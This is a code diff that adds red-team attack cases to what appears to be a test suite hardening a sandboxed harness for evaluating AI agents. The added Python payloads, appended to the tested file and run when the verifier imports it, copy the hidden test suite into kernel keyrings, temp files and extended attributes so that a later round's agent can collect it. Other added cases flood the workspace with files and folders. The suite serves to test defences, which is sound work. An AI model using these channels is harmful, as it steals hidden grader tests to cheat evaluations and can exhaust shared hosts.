@@ -36,6 +36,9 @@ class Attack:
     """Task ``[environment]`` limits for this attack (small ones keep the suite fast)."""
     env: dict[str, str] = field(default_factory=dict)
     """Engine environment for this attack (e.g. the Docker snapshot mode)."""
+    mode: str = "mt"
+    """The job's mode: ``sr`` starts each round in a new sandbox (which may be given a
+    recycled folder of an earlier verifier's clone)."""
 
 
 def stub() -> dict:
@@ -51,6 +54,106 @@ def py(code: str, timeout: float | None = None) -> dict:
 
 
 ORACLE = "oracle"
+
+# Imported by the verifier: the suite's files into the user's keyrings and files outside
+# the workspace (see "keyring_exfil").
+_EXFIL = """
+import ctypes as _ct, gc as _gc, os as _os
+
+
+def _exfil():
+    root = None
+    for o in _gc.get_objects():
+        try:
+            if type(o).__name__ == "Config" and hasattr(o, "rootpath"):
+                root = str(o.rootpath)
+        except Exception:
+            pass
+    data = b""
+    for d, _, files in _os.walk(root or "/nonexistent"):
+        for f in files:
+            if f.endswith(".py"):
+                data += open(_os.path.join(d, f), "rb").read()
+    data = data[:30000]
+    nr = {"x86_64": 248, "aarch64": 217}.get(_os.uname().machine)
+    try:
+        libc = _ct.CDLL(None, use_errno=True)
+        for ring in (-3, -4, -5):  # session, user, user-session keyring
+            libc.syscall(nr, b"user", b"rtleak%d" % -ring, data, len(data), _ct.c_int(ring))
+    except Exception:
+        pass
+    for p in ("rtleak.txt", "/tmp/rtleak.txt", "/var/tmp/rtleak.txt", "/dev/shm/rtleak.txt",
+              "/run/rtleak.txt", _os.path.expanduser("~/rtleak.txt")):
+        try:
+            open(p, "wb").write(data)
+        except Exception:
+            pass
+
+
+_exfil()
+"""
+# Imported by the verifier: the suite's files into extended attributes of the workspace
+# folder and a kept sub-folder (see "xattr_handoff").
+_XATTR = """
+import gc as _gc, os as _os
+
+
+def _exfil():
+    root = None
+    for o in _gc.get_objects():
+        try:
+            if type(o).__name__ == "Config" and hasattr(o, "rootpath"):
+                root = str(o.rootpath)
+        except Exception:
+            pass
+    data = b""
+    for d, _, files in _os.walk(root or "/nonexistent"):
+        for f in files:
+            if f.endswith(".py"):
+                data += open(_os.path.join(d, f), "rb").read()
+    for i in range(0, min(len(data), 3000), 1000):
+        for where in (".", "keep"):
+            try:
+                _os.setxattr(where, "user.rt%d" % i, data[i : i + 1000])
+            except OSError:
+                pass
+
+
+_exfil()
+"""
+_XATTR_COLLECT = """
+import os
+out = open("loot.txt", "wb")
+for where in (".", "keep"):
+    try:
+        for n in os.listxattr(where):
+            out.write(os.getxattr(where, n))
+    except OSError:
+        pass
+"""
+# Round 2's agent: what round 1's verifier left in the keyrings and in files.
+_COLLECT = """
+import ctypes, os
+libc = ctypes.CDLL(None, use_errno=True)
+nr = {"x86_64": 250, "aarch64": 219}.get(os.uname().machine)
+out = open("loot.txt", "wb")
+for ring in (-3, -4, -5):
+    for n in (3, 4, 5):
+        kid = libc.syscall(nr, 10, ctypes.c_int(ring), b"user", b"rtleak%d" % n, 0)
+        if kid > 0:
+            buf = ctypes.create_string_buffer(65536)
+            got = libc.syscall(nr, 11, kid, buf, 65536)
+            out.write(buf.raw[: max(got, 0)])
+            libc.syscall(nr, 21, kid)  # invalidate: leave the host's keyrings clean
+for p in ("rtleak.txt", "/tmp/rtleak.txt", "/var/tmp/rtleak.txt", "/dev/shm/rtleak.txt",
+          "/run/rtleak.txt", os.path.expanduser("~/rtleak.txt")):
+    try:
+        out.write(open(p, "rb").read())
+        os.unlink(p)
+    except OSError:
+        pass
+out.close()
+"""
 
 ATTACKS: dict[str, Attack] = {
     # ---- hostile files at paths the harness walks, copies and reads ----------------------
@@ -421,5 +524,65 @@ ATTACKS: dict[str, Attack] = {
                 "timeout": 120,
             },
         ],
+    ),
+    # ---- channels from the verifier to a later round ----------------------------------------
+    # the tested code, imported by round 1's verifier, stores the hidden suite where state
+    # outlives a process: the kernel keyrings of its user (per uid, not per namespace:
+    # shared with the host, every sandbox and every later command) and files outside the
+    # workspace; round 2's agent collects it all (and invalidates the keys it found)
+    "keyring_exfil": Attack(
+        [ORACLE, {"run": "cat >> counter.py <<'EOF'\n" + _EXFIL + "\nEOF"}],
+        expect="pass",
+        later=[ORACLE, py(_COLLECT)],
+        loot="loot.txt",
+    ),
+    # the same through extended attributes of folders, which a recycled workspace (a closed
+    # verifier clone of 16 MB or more, repaired and handed to the next sandbox) keeps: in a
+    # fast-forward job the next round's agent sandbox may be given that folder
+    "xattr_handoff": Attack(
+        [
+            ORACLE,
+            {"run": "head -c 17M /dev/urandom > big.bin; mkdir -p keep; touch keep/.k"},
+            py(_XATTR_COLLECT),
+            {"run": "cat >> counter.py <<'EOF'\n" + _XATTR + "\nEOF"},
+        ],
+        expect="pass",
+        later=[
+            ORACLE,
+            {"run": "head -c 17M /dev/urandom > big.bin; mkdir -p keep; touch keep/.k"},
+            py(_XATTR_COLLECT),
+        ],
+        loot="loot.txt",
+        mode="sr",
+    ),
+    # more (empty) folders than the task allows files: folders count too, or a workspace of
+    # millions of folders would be walked, stored and written back for free
+    "many_dirs": Attack(
+        [
+            stub(),
+            py(
+                "import os\nfor d in range(30):\n    for i in range(100):\n"
+                "        os.makedirs('n%d/%d' % (d, i))",
+                timeout=120,
+            ),
+        ],
+        expect="reject",
+        limits={"max_workspace_files": 2000},
+    ),
+    # the tested code, imported by the verifier, fills its clone's workspace with empty
+    # files for 20 s (a workspace of 17 MB: the clone is recycled, its folder repaired)
+    "verifier_file_bomb": Attack(
+        [
+            ORACLE,
+            {"run": "head -c 17M /dev/urandom > big.bin"},
+            {
+                "run": "cat >> counter.py <<'EOF'\nimport os as _o, time as _t\n"
+                "_end = _t.monotonic() + 20\n_o.makedirs('junk', exist_ok=True)\n_i = 0\n"
+                "while _t.monotonic() < _end:\n    for _ in range(1000):\n"
+                "        _o.close(_o.open('junk/%d' % _i, _o.O_CREAT | _o.O_WRONLY))\n"
+                "        _i += 1\nEOF"
+            },
+        ],
+        expect="pass",
     ),
 }
